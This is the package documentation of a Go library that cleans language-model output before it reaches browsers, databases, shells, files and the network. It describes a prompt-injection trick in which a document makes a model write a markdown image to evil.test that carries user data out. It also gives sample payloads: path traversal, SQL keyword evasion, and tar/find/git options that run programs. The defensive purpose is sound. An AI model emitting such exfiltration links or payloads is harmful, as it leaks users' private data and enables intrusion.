// Package sink makes what a model wrote safe for the place where it is used: a browser, a
// database, a shell, a file system, the network.
//
// # The problem
//
// A model's answer is text from outside. The model was trained on the internet, has just read a document
// that a stranger wrote, and repeats what it read. Shown as HTML the answer can be cross-site scripting. Run
// as SQL it can be an injection. A URL in it can become a request from inside your network. None of this is
// new. New is that developers trust the text because they wrote the prompt.
//
// The quietest attack needs no click. A document asks the model to end its answer with an image, whose
// address ends in the user's data: ![ok](https://evil.test/p.png?d=…). The chat shows the image, so the
// browser fetches it. The data is then in a stranger's log.
//
// # The idea
//
// Each place where text is used is a sink, and has a function of its own:
//
//	answer ─┬─▶ page      [HTML], [NewLinkCheck]
//	        ├─▶ database  [CheckSQL], [CheckSQLValues]
//	        ├─▶ shell     [ParseCommand], then os/exec without a shell
//	        ├─▶ file      [CleanPath], then os.Root
//	        └─▶ network   [CheckURL], then [NewClient]
//
// Three rules hold for all of them:
//
//   - Parse, don't search. A list of bad words blocks the user named Drop and passes the attack that writes
//     D/**/ROP. Each function takes the text apart as its reader will. Where readers differ (MySQL and
//     PostgreSQL about a backslash, browsers and Go about one in a URL), it refuses.
//   - Admit, don't forbid. There is a list of hosts, tables, programs, options and elements that may pass. An
//     attack that was not foreseen is on none of them.
//   - Check where it is used. A name that resolved to a public address a moment ago can resolve to 127.0.0.1
//     now, and a path without ".." can lead through a link. So [NewClient] looks at the address that it
//     connects to, and os.Root keeps a path in its folder.
//
// # Terms
//
//   - Sink: A sink is a place where text has an effect: a page, a query, a command, a path, an address.
//   - Insecure output handling (also: improper output handling, LLM05): Insecure output handling passes a
//     model's text to a sink without checking it.
//   - XSS (also: cross-site scripting): XSS is an attack in which text from outside runs as a program in
//     another user's browser. [HTML] removes what could run.
//   - SQL injection: SQL injection is text that becomes a part of a database command and changes it.
//     [CheckSQL] admits one query that only reads listed tables.
//   - Command injection (also: shell injection): Command injection is text that a shell reads as a further
//     command. [ParseCommand] gives the words without a shell.
//   - Path traversal (also: directory traversal): Path traversal is a file name such as ../../etc/passwd that
//     leaves its folder. [CleanPath] refuses it.
//   - SSRF (also: server-side request forgery): SSRF makes a server fetch an address inside its own
//     network. [CheckURL] and [NewClient] admit public addresses only.
//   - DNS rebinding: DNS rebinding is a host name that resolves to a public address when it is checked, and to
//     a private one when it is used.
//   - Defanging (also: defang): Defanging writes an address so that it can be read and not clicked, such as
//     evil[.]test/login.
//
// # A minimal program
//
// The program checks the links of an answer, and cleans the page that is made of it:
//
//	links, err := sink.NewLinkCheck(&sink.LinkOptions{Hosts: []string{"docs.example.org"}})
//	model, err := guard.New(client, &guard.Options{Output: []guard.Check{links}})
//	page, err := sink.NewHTML(nil)
//	…
//	fmt.Fprint(w, page.Clean(render(answer)))
//
// # Pitfalls
//
//   - Don't change HTML after [HTML.Clean]: because any later change can undo the cleaning. Clean last.
//   - Don't take away an address that the user asked for: because the answer is then useless. Defang it with
//     LinkOptions.Defang, so that it can be read and not clicked.
//   - Don't allow a host where strangers can publish: because a link to storage.example.com is a link to
//     every customer's storage. List hosts on which you alone publish.
//   - Don't run exec.Command("sh", "-c", …) with parts from a model: because quoting is right only until the
//     line is edited. Run the program without a shell, with the words of [ParseCommand].
//   - Don't allow a program with all its options: because tar --to-command, find -exec and git -c start other
//     programs. List the options too.
//   - Don't rely on a check in place of rights: because a check may have a gap. Run queries as a database user
//     who can only read, as well.
//
// # Questions
//
// Can I let a model write SQL? A model may write SQL if several layers check it. Check that
// the statement is one query on listed tables ([CheckSQL]). Run it as a database user that can
// only read, set a time limit, and bound the rows. Each layer covers a gap of another.
//
// Why are images in answers dangerous? Images in answers are dangerous because a browser loads
// an image without a click. An injected document can make the model write an image address
// that contains private data, and the load sends it. By default [NewLinkCheck] removes every
// image whose address does not appear in the user's or the application's words.
//
// How do I safely fetch a URL that a model chose? To fetch a URL that a model chose, check it with
// [CheckURL], and use the client of [NewClient]. That client checks the address of the connection
// and of each redirect. Bound the time and the bytes. List hosts in FetchOptions.OnlyHosts if you
// know them.
//
// Should a model run shell commands? A model should not run shell commands if you can avoid
// it. If it must, list programs and options for [ParseCommand], run them without a shell, in a
// container without network and secrets, as a user without rights.
//
// # Exercises
//
//  1. Write a markdown image that [NewLinkCheck] lets through to a host of yours. (Then
//     run the fuzz target on it.)
//  2. Which three of your own tools take an argument that a shell, a database or a
//     browser reads in the end?
//  3. Serve a name that resolves first to a public and then to a private address,
//     and fetch it with http.Get and with [NewClient].
//
// # Further reading
//
//   - OWASP LLM05:2025 Improper Output Handling; MITRE ATLAS AML.T0077.
//   - Z. Su, G. Wassermann: The essence of command injection attacks in web
//     applications. POPL 2006.
//   - M. Heiderich et al.: mXSS attacks. CCS 2013. Why HTML is cleaned by what
//     parses it.
//   - J. Rehberger: data exfiltration from chat applications by markdown images,
//     2023 to 2025.
//   - RFC 6890, special-purpose addresses; CommonMark 0.31; OWASP SSRF prevention
//     cheat sheet.
package sink
